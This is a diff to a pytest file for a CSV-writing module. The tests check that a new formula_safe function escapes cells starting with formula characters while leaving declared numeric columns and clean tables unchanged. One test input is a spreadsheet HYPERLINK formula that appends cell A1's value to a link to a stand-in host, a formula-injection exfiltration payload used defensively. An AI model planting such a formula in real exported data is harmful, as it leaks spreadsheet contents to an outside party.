@@ -11,7 +11,7 @@ import pandas as pd
 import pyarrow as pa
 import pytest
 
-from contract.output import csv_field, csv_lines, csv_text, write_csv, write_csv_parts
+from contract.output import csv_field, csv_lines, csv_text, formula_safe, write_csv, write_csv_parts
 
 TRICKY = ['say "hi"', "x,y", "two\nlines", "cr\r", "\r", "crlf\r\n", '"', ",", "\n", " lead", "trail ",
           " ", "", None, '""', 'a,"b"\nc']
@@ -45,7 +45,8 @@ def _pandas_bytes(frame: pd.DataFrame) -> bytes:
 @pytest.mark.parametrize("name", list(CASES))
 def test_write_csv_gives_the_bytes_pandas_gives(name: str, tmp_path: Path) -> None:
     frame, fast = CASES[name]
-    frame.to_csv(tmp_path / "pandas.csv", index=False, lineterminator="\n", na_rep="")
+    # pandas' bytes of the formula-safe table (TRICKY has cells starting with CR: they get a ')
+    formula_safe(frame).to_csv(tmp_path / "pandas.csv", index=False, lineterminator="\n", na_rep="")
     write_csv(frame, tmp_path / "kinerja.csv")
     assert (tmp_path / "kinerja.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()
     assert (csv_text(frame) is not None) == fast  # the Arrow path is taken exactly where it is safe
@@ -96,3 +97,38 @@ def test_csv_lines_round_trip_through_the_csv_module() -> None:
     text = bytes(csv_lines([pa.array(values), pa.array(values[::-1])])).decode("utf-8")
     assert list(csv.reader(io.StringIO(text, newline=""))) == [list(r) for r in zip(values, values[::-1],
                                                                                    strict=True)]
+
+
+def test_text_cells_that_start_like_a_formula_get_a_leading_quote(tmp_path: Path) -> None:
+    frame = pd.DataFrame({
+        "nama": pd.Series(['=HYPERLINK("http://x.test/?"&A1,"klik")', "+1", "-x", "@SUM(A1)", "\tt",
+                           "\rr", "Budi - Staf", None], dtype="str"),
+        "catatan": ["-", "=", "a=b", "", "x", "y", "z", "w"],  # object column
+        "nilai": pd.Series(["-0.50", "1.00", "", "-12.25", "0.00", "2.00", "3.00", "4.00"], dtype="str"),
+        "peringkat": [-1, 2, 3, 4, 5, 6, 7, 8],
+        "skor": [-1.5, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0],
+    })
+    got = formula_safe(frame, numbers=("nilai",)).fillna("")
+    written = write_csv(frame, tmp_path / "x.csv", numbers=("nilai",)).read_text(encoding="utf-8")
+    assert written.startswith('nama,catatan,nilai,peringkat,skor\n"\'=HYPERLINK(""http://x.test/?""&A1,""klik"")",\'-,-0.50,-1,-1.5\n')
+    assert got["nama"].tolist() == ["'=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")", "'+1", "'-x",
+                                    "'@SUM(A1)", "'\tt", "'\rr", "Budi - Staf", ""]
+    assert got["catatan"].tolist() == ["'-", "'=", "a=b", "", "x", "y", "z", "w"]
+    assert got["nilai"].tolist() == ["-0.50", "1.00", "", "-12.25", "0.00", "2.00", "3.00", "4.00"]
+    assert got["peringkat"].iloc[0] == -1 and got["skor"].iloc[0] == -1.5
+    # an undeclared text column of numbers is text: escaped (the caller must name its numbers)
+    plain = pd.read_csv(write_csv(frame[["nama", "nilai"]], tmp_path / "y.csv"), dtype=str)
+    assert plain["nilai"].iloc[0] == "'-0.50"
+    assert frame["nama"].iloc[0].startswith("=")  # the caller's frame is left alone
+
+
+def test_formula_safe_parts_and_clean_tables_are_unchanged(tmp_path: Path) -> None:
+    frame = pd.DataFrame({"kode": ["U1", "U1", "U2"], "nama": ["=1+1", "b", "-c"],
+                          "jp": pd.Series(["-1.00", "2.00", "3.00"], dtype="str")})
+    a, b = write_csv_parts(frame, [0, 2], [tmp_path / "a.csv", tmp_path / "b.csv"], numbers=("jp",))
+    assert a.read_text() == "kode,nama,jp\nU1,'=1+1,-1.00\nU1,b,2.00\n"
+    assert b.read_text() == "kode,nama,jp\nU2,'-c,3.00\n"
+    clean = pd.DataFrame({"tanggal": ["2026-01-31", "x"], "nip": ["198001012005011001", ""]})
+    assert formula_safe(clean) is clean
+    assert write_csv(clean, tmp_path / "c.csv").read_bytes() == clean.to_csv(
+        index=False, lineterminator="\n").encode()
